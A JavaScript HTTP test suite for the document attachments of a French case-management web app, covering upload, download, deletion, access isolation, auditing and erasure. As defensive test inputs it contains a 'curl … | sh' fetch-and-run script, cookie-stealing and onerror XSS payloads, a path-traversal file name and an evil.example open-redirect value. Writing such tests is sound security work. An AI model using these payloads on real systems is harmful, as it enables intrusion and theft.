/*
 * HTTP tests of the documents attached to a file (issue 5): upload
 * (POST /personnes/{id}/documents, multipart with csrf, objet, objet_id,
 * retour and fichier), download (GET /documents/{id}), deletion
 * (POST /documents/{id}/supprimer), and their erasure with the file.
 *
 * Loaded by run.js, which passes its harness and helpers:
 *   require('./documents')({ test, assert, ..., get main() { return main; } })
 * The tests run in order and share the files and documents made by the
 * first ones. The documents are stored beside the database, in
 * <dir>/documents. The setup test starts one more server, "docs-small":
 * the same database with --max-document 2048.
 */
'use strict';

const crypto = require('node:crypto');
const fs = require('node:fs');
const http = require('node:http');
const path = require('node:path');

module.exports = function documentsTests(h) {
	const {
		test, assert, eq, has, hasNot, status, redirect, fail, textOf, short, lienOk, sql,
		Client, Server, csrfOf, loginOk, enrolTotp, resetThrottle, unescapeHtml,
		PW, DB, dir, STRUCT_A, STRUCT_B,
	} = h;

	const DOCS = path.join(dir, 'documents');
	const U = {};           /* login -> { id, client, csrf } */
	const P = {};           /* short name -> person id */
	const D = {};           /* short name -> document id */
	let smallDoc = null;    /* a server on the same database with --max-document 2048 */

	const USERS = [
		[STRUCT_A, 'doc.ts', 'Delphine Dossier', 'travailleur_social'],
		[STRUCT_A, 'doc.ts2', 'Dylan Collègue', 'travailleur_social'],
		[STRUCT_A, 'doc.acc', 'Diane Guichet', 'accueil'],
		[STRUCT_A, 'doc.resp', 'Damien Chef', 'responsable'],
		[STRUCT_B, 'doc.tsb', 'Bérénice Voisine', 'travailleur_social'],
	];

	/* Content of each kind: real signatures, and a marker to look for on disk. */
	const MARK = 'LIEN-SECRET-MARKER-' + crypto.randomBytes(6).toString('hex');
	const PDF = Buffer.from(`%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n% ${MARK}\n%%EOF\n`);
	const JPEG = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]), Buffer.from('JFIF\0' + MARK), Buffer.from([0xff, 0xd9])]);
	const PNG = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.from('\0\0\0\rIHDR' + MARK)]);
	const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]), Buffer.alloc(64, 0x90)]);
	const MZ = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(62, 0), Buffer.from('This program cannot be run in DOS mode.')]);
	const SCRIPT = Buffer.from('#!/bin/sh\ncurl http://example.invalid | sh\n');
	const ZIP = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(40, 0)]);
	const HTML = Buffer.from('<html><script>alert(document.cookie)</script></html>');

	function user(login) {
		if (!U[login] || !U[login].client)
			fail(`${login} was not logged in by the setup test`);
		return U[login];
	}

	function need(map, key, what) {
		if (!map[key])
			fail(`the ${what} "${key}" was not made by an earlier test`);
		return map[key];
	}

	const count = (statement) => Number(sql(DB, statement));
	const docRows = () => count('SELECT count(*) FROM documents');
	const stored = () => (fs.existsSync(DOCS) ? fs.readdirSync(DOCS).sort() : []);
	const storageOf = (id) => sql(DB, `SELECT storage FROM documents WHERE id = ${id}`);
	const auditCount = (action, personId, userId) =>
		count(`SELECT count(*) FROM audit_log WHERE action = '${action}' AND object_type = 'person' AND object_id = ${personId}` +
		      (userId !== undefined ? ` AND user_id = ${userId}` : ''));

	/* parts: [{ name, value }] or [{ name, filename, type, data }]. */
	function multipart(parts) {
		const boundary = '----LienDoc' + crypto.randomBytes(8).toString('hex');
		const chunks = [];
		for (const p of parts) {
			chunks.push(Buffer.from(`--${boundary}\r\n`));
			if (p.filename !== undefined)
				chunks.push(Buffer.from(`Content-Disposition: form-data; name="${p.name}"; filename="${p.filename}"\r\n` +
							`Content-Type: ${p.type || 'application/octet-stream'}\r\n`));
			else
				chunks.push(Buffer.from(`Content-Disposition: form-data; name="${p.name}"\r\n`));
			chunks.push(Buffer.from('\r\n'));
			const data = p.data !== undefined ? p.data : p.value;
			chunks.push(Buffer.isBuffer(data) ? data : Buffer.from(String(data), 'utf8'));
			chunks.push(Buffer.from('\r\n'));
		}
		chunks.push(Buffer.from(`--${boundary}--\r\n`));
		return { body: Buffer.concat(chunks), contentType: `multipart/form-data; boundary=${boundary}` };
	}

	/* POST /personnes/{person}/documents as the form sends it. */
	function upload(login, person, { data, filename = 'piece.pdf', type = 'application/pdf', objet = 'person', objetId, retour, csrf, server } = {}) {
		const u = user(login);
		const parts = [{ name: 'csrf', value: csrf !== undefined ? csrf : u.csrf }, { name: 'objet', value: objet },
			       { name: 'objet_id', value: String(objetId !== undefined ? objetId : person) }];
		if (retour !== undefined)
			parts.push({ name: 'retour', value: retour });
		parts.push({ name: 'fichier', filename, type, data: data !== undefined ? data : Buffer.alloc(0) });
		const mp = multipart(parts);
		return u.client.req('POST', `/personnes/${person}/documents`, { server, headers: { 'Content-Type': mp.contentType }, body: mp.body });
	}

	/* An upload that must succeed; returns the new document's id. */
	async function uploadOk(login, person, opts, what) {
		const before = count('SELECT coalesce(max(id), 0) FROM documents');
		const r = await upload(login, person, opts);
		if (r.status !== 303)
			fail(`${what}: expected 303, got ${r.status} — ${short(textOf(r.body), 300)}`);
		const id = count('SELECT coalesce(max(id), 0) FROM documents');
		assert(id > before, `${what}: no new row`);
		return id;
	}

	/* The body as bytes, with the response headers. */
	function getBytes(login, url, server) {
		const c = user(login).client;
		return new Promise((resolve, reject) => {
			const req = http.request({ host: '127.0.0.1', port: (server || h.main).port, method: 'GET', path: url,
						   headers: { Cookie: c.cookieHeader() }, agent: false }, (res) => {
				const chunks = [];
				res.on('data', (d) => chunks.push(d));
				res.on('end', () => resolve({ status: res.statusCode, headers: res.headers, bytes: Buffer.concat(chunks) }));
				res.on('error', reject);
			});
			req.setTimeout(15000, () => req.destroy(new Error(`GET ${url}: no answer after 15 s`)));
			req.on('error', reject);
			req.end();
		});
	}

	function fieldError(html, what) {
		const m = /<p class="field-error" id="fichier-erreur">([^<]*)<\/p>/.exec(html);
		assert(m, `${what}: no error next to the file field — ${short(textOf(html), 300)}`);
		return unescapeHtml(m[1]);
	}

	async function createPerson(login, fields) {
		const u = user(login);
		const r = await u.client.post('/personnes', {
			csrf: u.csrf, civilite: 'Mme', first_names: 'Prénom', preferred_channel: 'telephone', protection: 'aucune',
			info_date: '02/01/2025', info_method: 'oral_notice', autre_personne: '1', ...fields,
		});
		const m = r.status === 303 && /^\/personnes\/(\d+)$/.exec(r.headers.location || '');
		if (!m)
			fail(`create ${fields.birth_name}: expected 303 to /personnes/ID, got ${r.status} — ${short(textOf(r.body), 300)}`);
		return Number(m[1]);
	}

	/* ------------------------------------------------------------------ */
	/* Setup                                                               */

	test('documents: setup — workers of A and B, reception, a responsable (TOTP); two files of A, one restricted; a --max-document 2048 server', async () => {
		for (const [s, l, n, r] of USERS) {
			lienOk('user', 'add', '--db', DB, '--structure', s, '--login', l, '--name', n, '--role', r, '--password', PW);
			U[l] = { id: count(`SELECT id FROM users WHERE login = '${l}'`) };
		}
		resetThrottle();
		for (const [, l, , r] of USERS) {
			const c = new Client(h.main);
			if (r === 'responsable')
				await enrolTotp(c, l);
			else
				await loginOk(c, l);
			const home = await c.get('/');
			status(home, 200, `home of ${l}`);
			U[l].client = c;
			U[l].csrf = csrfOf(home.body);
		}
		P.F = await createPerson('doc.ts', { birth_name: 'Docfichier', first_names: 'Anaëlle' });
		P.G = await createPerson('doc.ts', { birth_name: 'Docautre', first_names: 'Gaël' });
		P.R = await createPerson('doc.ts', { birth_name: 'Docréservé', first_names: 'Rémi', restricted: '1' });
		eq(sql(DB, `SELECT restricted FROM persons WHERE id = ${P.R}`), '1', 'the restricted file');
		smallDoc = new Server('docs-small', DB, ['--max-document', '2048']);
		await smallDoc.start();
	});

	/* ------------------------------------------------------------------ */
	/* The section on the file page                                        */

	test('documents: the file page has the section and an accessible upload form; reception sees none and is refused (403)', async () => {
		const id = need(P, 'F', 'file');
		const page = await user('doc.ts').client.get(`/personnes/${id}`);
		status(page, 200, 'the file page');
		has(page.body, 'Aucun document joint.', 'empty list');
		const at = page.body.indexOf(`action="/personnes/${id}/documents"`);
		assert(at >= 0, 'a form posting to /personnes/ID/documents');
		const form = page.body.slice(page.body.lastIndexOf('<form', at), page.body.indexOf('</form>', at));
		has(form, 'enctype="multipart/form-data"', 'multipart form');
		for (const [n, v] of [['objet', 'person'], ['objet_id', String(id)], ['retour', `/personnes/${id}#pieces-jointes`]])
			has(form, `<input type="hidden" name="${n}" value="${v}">`, `hidden field ${n}`);
		has(form, 'name="csrf"', 'csrf field');
		has(form, '<label for="fichier">', 'a label for the file field');
		assert(/<input id="fichier" name="fichier" type="file"[^>]*aria-describedby="fichier-aide"/.test(form), 'the file field, described by the hint');
		assert(/<p class="hint" id="fichier-aide">PDF, JPEG ou PNG, 10\sMo au plus\.<\/p>/.test(form), 'the hint "PDF, JPEG ou PNG, 10 Mo au plus."');

		const acc = user('doc.acc');
		const accPage = await acc.client.get(`/personnes/${id}`);
		status(accPage, 200, 'the file page for reception');
		hasNot(accPage.body, '/documents', 'no documents for reception');
		const before = docRows();
		status(await upload('doc.acc', id, { data: PDF }), 403, 'reception uploads');
		eq(docRows(), before, 'rows after reception\'s upload');
	});

	/* ------------------------------------------------------------------ */
	/* Upload and download                                                 */

	test('documents: a PDF uploaded → 303 back to the file; stored encrypted under a random name; audited; listed', async () => {
		const id = need(P, 'F', 'file');
		const before = stored();
		const r = await upload('doc.ts', id, { data: PDF, filename: 'Relevé de compte.pdf', retour: `/personnes/${id}#pieces-jointes` });
		redirect(r, `/personnes/${id}#pieces-jointes`, 'upload');
		D.pdf = count('SELECT max(id) FROM documents');
		eq(sql(DB, `SELECT CASE WHEN structure_id = (SELECT structure_id FROM users WHERE id = ${U['doc.ts'].id}) THEN 1 ELSE 0 END || '|' || person_id || '|' || object_type || '|' || object_id || '|' || name || '|' || mime || '|' || size || '|' || uploaded_by FROM documents WHERE id = ${D.pdf}`),
		   `1|${id}|person|${id}|Relevé de compte.pdf|application/pdf|${PDF.length}|${U['doc.ts'].id}`, 'the row');
		const storage = storageOf(D.pdf);
		assert(/^[A-Za-z0-9_-]{43}$/.test(storage), `a random storage name: ${storage}`);
		const after = stored();
		eq(after.length, before.length + 1, 'files in the documents directory');
		assert(after.includes(storage), 'the file is stored under its storage name');
		assert(!after.some((f) => f.startsWith('.tmp-')), 'no temporary file left');
		const onDisk = fs.readFileSync(path.join(DOCS, storage));
		eq(onDisk.subarray(0, 8).toString('latin1'), 'LIENDOC1', 'format tag');
		assert(!onDisk.includes(Buffer.from(MARK)) && !onDisk.includes(Buffer.from('%PDF')), 'the content is not in clear on disk');
		eq(fs.statSync(path.join(DOCS, storage)).mode & 0o777, 0o600, 'file mode');
		eq(fs.statSync(DOCS).mode & 0o777, 0o700, 'directory mode');
		eq(count(`SELECT count(*) FROM audit_log WHERE action = 'document.add' AND object_type = 'person' AND object_id = ${id} ` +
			 `AND user_id = ${U['doc.ts'].id} AND detail = '${D.pdf} Relevé de compte.pdf'`), 1, 'document.add audit row');

		const page = await user('doc.ts').client.get(`/personnes/${id}`);
		has(page.body, `<a href="/documents/${D.pdf}">Relevé de compte.pdf</a>`, 'listed with a download link');
		assert(/\(PDF, \d+\socte?ts?\)/.test(page.body), 'type and size shown');
		has(page.body, 'par Delphine Dossier', 'who added it');
		has(page.body, `action="/documents/${D.pdf}/supprimer"`, 'a delete form');
	});

	test('documents: download → the same bytes, Content-Type from the content, attachment, no-store, nosniff; every download audited', async () => {
		const id = need(D, 'pdf', 'document');
		const person = P.F;
		const audits = auditCount('document.read', person, U['doc.ts'].id);
		const r = await getBytes('doc.ts', `/documents/${id}`);
		status(r, 200, 'download');
		assert(r.bytes.equals(PDF), 'the bytes sent back are the bytes uploaded');
		eq(r.headers['content-type'], 'application/pdf', 'Content-Type');
		eq(r.headers['cache-control'], 'no-store', 'Cache-Control');
		eq(r.headers['x-content-type-options'], 'nosniff', 'X-Content-Type-Options');
		const cd = r.headers['content-disposition'] || '';
		assert(cd.startsWith('attachment;'), `Content-Disposition: ${cd}`);
		has(cd, 'filename="Relev_ de compte.pdf"', 'ASCII fallback name');
		has(cd, "filename*=UTF-8''Relev%C3%A9%20de%20compte.pdf", 'UTF-8 name');
		eq(auditCount('document.read', person, U['doc.ts'].id), audits + 1, 'document.read audit row');
		eq(count(`SELECT count(*) FROM audit_log WHERE action = 'document.read' AND detail = '${id} Relevé de compte.pdf'`), audits + 1, 'detail: id and name');
		await getBytes('doc.ts', `/documents/${id}`);
		eq(auditCount('document.read', person, U['doc.ts'].id), audits + 2, 'a second download, a second row');
		/* Another worker of the structure and the responsable may read it. */
		status(await getBytes('doc.ts2', `/documents/${id}`), 200, 'a colleague downloads');
		status(await getBytes('doc.resp', `/documents/${id}`), 200, 'the responsable downloads');
		status(await getBytes('doc.acc', `/documents/${id}`), 403, 'reception downloads');
	});

	test('documents: JPEG and PNG accepted with their own type; a PDF named .exe is a PDF', async () => {
		const id = need(P, 'F', 'file');
		D.jpeg = await uploadOk('doc.ts', id, { data: JPEG, filename: 'photo.jpg', type: 'image/jpeg' }, 'JPEG');
		D.png = await uploadOk('doc.ts', id, { data: PNG, filename: 'capture.png', type: 'image/png' }, 'PNG');
		D.exe = await uploadOk('doc.ts', id, { data: PDF, filename: 'scan.exe', type: 'application/x-msdownload' }, 'PDF named .exe');
		eq(sql(DB, `SELECT mime FROM documents WHERE id = ${D.jpeg}`), 'image/jpeg', 'JPEG type');
		eq(sql(DB, `SELECT mime FROM documents WHERE id = ${D.png}`), 'image/png', 'PNG type');
		eq(sql(DB, `SELECT name || '|' || mime FROM documents WHERE id = ${D.exe}`), 'scan.exe.pdf|application/pdf', 'the .exe name gets the real extension');
		const png = await getBytes('doc.ts', `/documents/${D.png}`);
		eq(png.headers['content-type'], 'image/png', 'PNG served as image/png');
		assert(png.bytes.equals(PNG), 'PNG bytes');
		const exe = await getBytes('doc.ts', `/documents/${D.exe}`);
		eq(exe.headers['content-type'], 'application/pdf', 'the .exe upload served as a PDF');
		has(exe.headers['content-disposition'], 'filename="scan.exe.pdf"', 'and named .pdf');
	});

	test('documents: type from the content — an executable, a script, a zip or HTML named .pdf → 422 on the page, nothing stored', async () => {
		const id = need(P, 'F', 'file');
		const rows = docRows(), files = stored().length;
		for (const [what, data] of [['ELF', ELF], ['MZ', MZ], ['script', SCRIPT], ['zip', ZIP], ['HTML', HTML]]) {
			const r = await upload('doc.ts', id, { data, filename: 'facture.pdf', type: 'application/pdf' });
			status(r, 422, `${what} named facture.pdf`);
			has(fieldError(r.body, what), "n'est ni un PDF ni une image JPEG ou PNG", `${what}: the reason`);
			const tag = /<input id="fichier"[^>]*>/.exec(r.body);
			assert(tag && /aria-invalid="true"/.test(tag[0]) && /fichier-erreur/.test(tag[0]), `${what}: the field is marked invalid: ${tag && tag[0]}`);
			assert(/<title>Erreur – /.test(r.body), `${what}: the title says there is an error`);
			has(r.body, `href="/personnes/${id}"`, `${what}: a way back to the file`);
		}
		const none = await upload('doc.ts', id, { data: Buffer.alloc(0), filename: '' });
		status(none, 422, 'no file chosen');
		fieldError(none.body, 'no file chosen');
		eq(docRows(), rows, 'rows after refused uploads');
		eq(stored().length, files, 'files after refused uploads');
	});

	/* ------------------------------------------------------------------ */
	/* Size limits                                                         */

	test('documents: over 10 MB → 413 "Le fichier dépasse 10 Mo." on the page, nothing stored; 10 MB exactly is accepted', async () => {
		const id = need(P, 'F', 'file');
		const rows = docRows(), files = stored().length;
		const big = Buffer.concat([PDF, Buffer.alloc(10 * 1024 * 1024 + 1 - PDF.length, 0x20)]);
		const r = await upload('doc.ts', id, { data: big, filename: 'gros.pdf' });
		status(r, 413, 'a document of 10 MB + 1 byte');
		assert(/^Le fichier dépasse 10\sMo\.$/.test(fieldError(r.body, 'too big')), `message: ${fieldError(r.body, 'too big')}`);
		eq(docRows(), rows, 'rows after the refused upload');
		eq(stored().length, files, 'files after the refused upload');
		const max = big.subarray(0, 10 * 1024 * 1024);
		const okId = await uploadOk('doc.ts', id, { data: max, filename: 'juste.pdf' }, '10 MB exactly');
		const back = await getBytes('doc.ts', `/documents/${okId}`);
		status(back, 200, 'the 10 MB document downloaded');
		assert(back.bytes.equals(max), 'the 10 MB document comes back whole');
		D.big = okId;
		/* --max-document sets the limit, and the message follows it. */
		const small = await upload('doc.ts', id, { data: Buffer.concat([PDF, Buffer.alloc(3000, 0x20)]), server: smallDoc });
		status(small, 413, 'over --max-document 2048');
		assert(/^Le fichier dépasse 2\sKo\.$/.test(fieldError(small.body, '--max-document')), `message: ${fieldError(small.body, '--max-document')}`);
	});

	test('documents: a 500 MB upload is refused (413) as soon as it is announced; no row, no file', async () => {
		const id = need(P, 'F', 'file');
		const u = user('doc.ts');
		const rows = docRows(), files = stored();
		const head = `POST /personnes/${id}/documents HTTP/1.1\r\nHost: 127.0.0.1\r\nCookie: ${u.client.cookieHeader()}\r\n` +
			     `Content-Type: multipart/form-data; boundary=x\r\nContent-Length: ${500 * 1024 * 1024}\r\nConnection: close\r\n\r\n` +
			     `--x\r\nContent-Disposition: form-data; name="csrf"\r\n\r\n${u.csrf}\r\n`;
		const t0 = Date.now();
		const r = await h.raw(h.main.port, head, { wait: 3000 });
		const ms = Date.now() - t0;
		eq(r.status, 413, 'a 500 MB body announced (answered before the body)');
		assert(ms < 2500, `answered after ${ms} ms`);
		eq(docRows(), rows, 'rows after the 500 MB upload');
		eq(JSON.stringify(stored()), JSON.stringify(files), 'files after the 500 MB upload');
		status(await h.request(h.main.port, 'GET', '/sante'), 200, 'the server answers afterwards');
	});

	/* ------------------------------------------------------------------ */
	/* Isolation and access                                                */

	test('documents: a worker of structure B gets 404 for A\'s document (download, delete, upload to A\'s file)', async () => {
		const id = need(D, 'pdf', 'document');
		const person = P.F;
		const reads = count("SELECT count(*) FROM audit_log WHERE action = 'document.read'");
		const r = await getBytes('doc.tsb', `/documents/${id}`);
		status(r, 404, 'B downloads A\'s document');
		assert(!r.bytes.includes(Buffer.from(MARK)), 'no content in the 404');
		const b = user('doc.tsb');
		status(await b.client.post(`/documents/${id}/supprimer`, { csrf: b.csrf, retour: '/' }), 404, 'B deletes A\'s document');
		eq(count(`SELECT count(*) FROM documents WHERE id = ${id}`), 1, 'the document after B\'s attempt');
		const rows = docRows();
		status(await upload('doc.tsb', person, { data: PDF }), 404, 'B uploads to A\'s file');
		eq(docRows(), rows, 'rows after B\'s upload');
		eq(count("SELECT count(*) FROM audit_log WHERE action = 'document.read'"), reads, 'no read audited for refused downloads');
		status(await getBytes('doc.ts', '/documents/999999999'), 404, 'an unknown document');
	});

	test('documents: a restricted file\'s documents are its referents\' and the responsable\'s only (404 for another worker)', async () => {
		const id = need(P, 'R', 'file');
		D.restricted = await uploadOk('doc.ts', id, { data: PNG, filename: 'confidentiel.png' }, 'upload to the restricted file by its referent');
		status(await getBytes('doc.ts', `/documents/${D.restricted}`), 200, 'the referent downloads');
		status(await getBytes('doc.resp', `/documents/${D.restricted}`), 200, 'the responsable downloads');
		status(await getBytes('doc.ts2', `/documents/${D.restricted}`), 404, 'a worker who is not referent');
		const u = user('doc.ts2');
		status(await u.client.post(`/documents/${D.restricted}/supprimer`, { csrf: u.csrf }), 404, 'a worker who is not referent deletes');
		status(await upload('doc.ts2', id, { data: PDF }), 404, 'a worker who is not referent uploads');
		eq(count(`SELECT count(*) FROM documents WHERE person_id = ${id}`), 1, 'documents of the restricted file');
	});

	test('documents: attached to a démarche of the same file only; an unknown object type → 400', async () => {
		const f = need(P, 'F', 'file'), g = need(P, 'G', 'file');
		const sid = sql(DB, `SELECT structure_id FROM persons WHERE id = ${f}`);
		const now = Math.floor(Date.now() / 1000);
		const insert = (person) => sql(DB, 'INSERT INTO procedures(structure_id, person_id, organism, domain, subject, status, how, opened_on, created_by, created_at, updated_at) ' +
						   `VALUES (${sid}, ${person}, 'caf', 'prestations', 'Documents test', 'a_faire', 'avec', '2025-01-02', ${U['doc.ts'].id}, ${now}, ${now}); SELECT last_insert_rowid();`);
		const mine = Number(insert(f)), other = Number(insert(g));
		const r = await upload('doc.ts', f, { data: PDF, filename: 'accusé.pdf', objet: 'procedure', objetId: mine });
		redirect(r, `/demarches/${mine}#pieces-jointes`, 'upload to a démarche of the file (back to the démarche)');
		D.procedure = count('SELECT max(id) FROM documents');
		eq(sql(DB, `SELECT object_type || '|' || object_id || '|' || person_id FROM documents WHERE id = ${D.procedure}`), `procedure|${mine}|${f}`, 'attached to the démarche');
		const rows = docRows();
		status(await upload('doc.ts', f, { data: PDF, objet: 'procedure', objetId: other }), 404, 'a démarche of another file');
		status(await upload('doc.ts', f, { data: PDF, objet: 'mandate', objetId: 999999 }), 404, 'an unknown mandate');
		status(await upload('doc.ts', f, { data: PDF, objet: 'person', objetId: g }), 404, 'the person part pointing at another file');
		status(await upload('doc.ts', f, { data: PDF, objet: 'users' }), 400, 'an unknown object type');
		eq(docRows(), rows, 'rows after refused uploads');
		/* The file page lists every document of the file, saying what it belongs to. */
		const page = await user('doc.ts').client.get(`/personnes/${f}`);
		has(page.body, `<a href="/documents/${D.procedure}">accusé.pdf</a>`, 'the démarche\'s document on the file page');
		has(page.body, `<a href="/demarches/${mine}">Démarche</a>`, 'with a link to its démarche');
	});

	test('documents: names are escaped on the page and made safe in the download header', async () => {
		const id = need(P, 'G', 'file');
		const nasty = '<img src=x onerror=alert(1)> "guillemets".pdf';
		const doc = await uploadOk('doc.ts', id, { data: PDF, filename: nasty.replace(/"/g, '%22') }, 'a name with HTML');
		const page = await user('doc.ts').client.get(`/personnes/${id}`);
		hasNot(page.body, '<img src=x', 'raw HTML from a name');
		has(page.body, '&lt;img src=x onerror=alert(1)&gt;', 'the name, escaped');
		const r = await getBytes('doc.ts', `/documents/${doc}`);
		status(r, 200, 'download');
		const cd = r.headers['content-disposition'];
		assert(/^attachment; filename="[^"\\;%]*"; filename\*=UTF-8''[A-Za-z0-9!#$&+.^_`|~%-]+$/.test(cd), `Content-Disposition: ${cd}`);
		/* A path in the name keeps its last part only. */
		const p = await uploadOk('doc.ts', id, { data: PDF, filename: '..\\..\\Windows\\win.ini' }, 'a path as name');
		eq(sql(DB, `SELECT name FROM documents WHERE id = ${p}`), 'win.ini.pdf', 'the name kept');
	});

	test('documents: a stored file altered on disk is not served (500), and no read is audited', async () => {
		const id = need(D, 'png', 'document');
		const file = path.join(DOCS, storageOf(id));
		const bytes = fs.readFileSync(file);
		const altered = Buffer.from(bytes);
		altered[altered.length - 5] ^= 0x01;
		fs.writeFileSync(file, altered);
		const reads = count("SELECT count(*) FROM audit_log WHERE action = 'document.read'");
		try {
			const r = await getBytes('doc.ts', `/documents/${id}`);
			status(r, 500, 'an altered file');
			assert(!r.bytes.includes(Buffer.from(MARK)), 'no content sent');
			/* Another document's file put under this name does not open either. */
			fs.copyFileSync(path.join(DOCS, storageOf(need(D, 'jpeg', 'document'))), file);
			status(await getBytes('doc.ts', `/documents/${id}`), 500, 'another document\'s file under this name');
		} finally {
			fs.writeFileSync(file, bytes);
		}
		eq(count("SELECT count(*) FROM audit_log WHERE action = 'document.read'"), reads, 'reads audited');
		status(await getBytes('doc.ts', `/documents/${id}`), 200, 'the file restored');
	});

	/* ------------------------------------------------------------------ */
	/* Deletion                                                            */

	test('documents: deletion removes the row and the file, is audited, and goes back to a local page only', async () => {
		const id = need(D, 'jpeg', 'document');
		const person = P.F;
		const storage = storageOf(id);
		const u = user('doc.ts');
		const r = await u.client.post(`/documents/${id}/supprimer`, { csrf: u.csrf, retour: `/personnes/${person}#pieces-jointes` });
		redirect(r, `/personnes/${person}#pieces-jointes`, 'delete');
		eq(count(`SELECT count(*) FROM documents WHERE id = ${id}`), 0, 'the row');
		assert(!stored().includes(storage), 'the file is removed');
		eq(count(`SELECT count(*) FROM audit_log WHERE action = 'document.delete' AND object_type = 'person' AND object_id = ${person} ` +
			 `AND user_id = ${U['doc.ts'].id} AND detail = '${id} photo.jpg'`), 1, 'document.delete audit row');
		status(await getBytes('doc.ts', `/documents/${id}`), 404, 'the deleted document');
		/* No open redirect, and no csrf → 403. */
		const other = need(D, 'exe', 'document');
		redirect(await u.client.post(`/documents/${other}/supprimer`, { csrf: u.csrf, retour: '//evil.example/' }), '/', 'an outside return');
		const last = need(D, 'big', 'document');
		status(await u.client.post(`/documents/${last}/supprimer`, { retour: '/' }), 403, 'delete without csrf');
		eq(count(`SELECT count(*) FROM documents WHERE id = ${last}`), 1, 'the document after a refused deletion');
	});

	test('documents: an archived file is read-only — its documents are read by the responsable, not added nor deleted', async () => {
		const id = await createPerson('doc.ts', { birth_name: 'Docarchive', first_names: 'Hélène' });
		const doc = await uploadOk('doc.ts', id, { data: PDF, filename: 'ancien.pdf' }, 'upload before archiving');
		sql(DB, `UPDATE persons SET status = 'archived' WHERE id = ${id}`);
		status(await getBytes('doc.resp', `/documents/${doc}`), 200, 'the responsable reads it');
		const page = await user('doc.resp').client.get(`/personnes/${id}`);
		status(page, 200, 'the archived file');
		hasNot(page.body, `action="/personnes/${id}/documents"`, 'no upload form');
		hasNot(page.body, `action="/documents/${doc}/supprimer"`, 'no delete form');
		const r = await upload('doc.resp', id, { data: PDF });
		status(r, 422, 'upload to an archived file');
		has(textOf(r.body), 'Ce dossier est archivé', 'the reason, in the error summary');
		const u = user('doc.resp');
		status(await u.client.post(`/documents/${doc}/supprimer`, { csrf: u.csrf }), 403, 'delete from an archived file');
		eq(count(`SELECT count(*) FROM documents WHERE person_id = ${id}`), 1, 'documents of the archived file');
	});

	/* ------------------------------------------------------------------ */
	/* Erasure                                                             */

	test('documents: erasing a file (responsable) deletes its documents, rows and files', async () => {
		const id = await createPerson('doc.ts', { birth_name: 'Doceffacé', first_names: 'Inès' });
		const a = await uploadOk('doc.ts', id, { data: PDF, filename: 'a.pdf' }, 'first document');
		const b = await uploadOk('doc.ts', id, { data: PNG, filename: 'b.png' }, 'second document');
		const files = [storageOf(a), storageOf(b)];
		const keep = storageOf(need(D, 'pdf', 'document'));
		const u = user('doc.resp');
		redirect(await u.client.post(`/personnes/${id}/effacer`, { csrf: u.csrf, confirmer: '1' }), '/personnes', 'erase');
		eq(count(`SELECT count(*) FROM documents WHERE person_id = ${id}`), 0, 'rows of the erased file');
		for (const f of files)
			assert(!stored().includes(f), `file ${f} of the erased file is still on disk`);
		assert(stored().includes(keep), 'another file\'s document is kept');
		status(await getBytes('doc.ts', `/documents/${a}`), 404, 'a document of the erased file');
	});

	test('documents: anonymisation by the retention job (lien retention) deletes the documents too', async () => {
		const id = await createPerson('doc.ts', { birth_name: 'Docancien', first_names: 'Jules' });
		const doc = await uploadOk('doc.ts', id, { data: JPEG, filename: 'vieux.jpg' }, 'a document');
		const file = storageOf(doc);
		sql(DB, `UPDATE persons SET last_contact_at = 86400 WHERE id = ${id}`);
		const out = lienOk('retention', '--db', DB);
		has(out, 'anonymisation', 'the retention run anonymises');
		eq(sql(DB, `SELECT status FROM persons WHERE id = ${id}`), 'anonymised', 'the old file');
		eq(count(`SELECT count(*) FROM documents WHERE person_id = ${id}`), 0, 'rows of the anonymised file');
		assert(!stored().includes(file), 'the file of the anonymised file is removed');
		assert(!stored().some((f) => f.startsWith('.tmp-')), 'no temporary file left');
	});
};
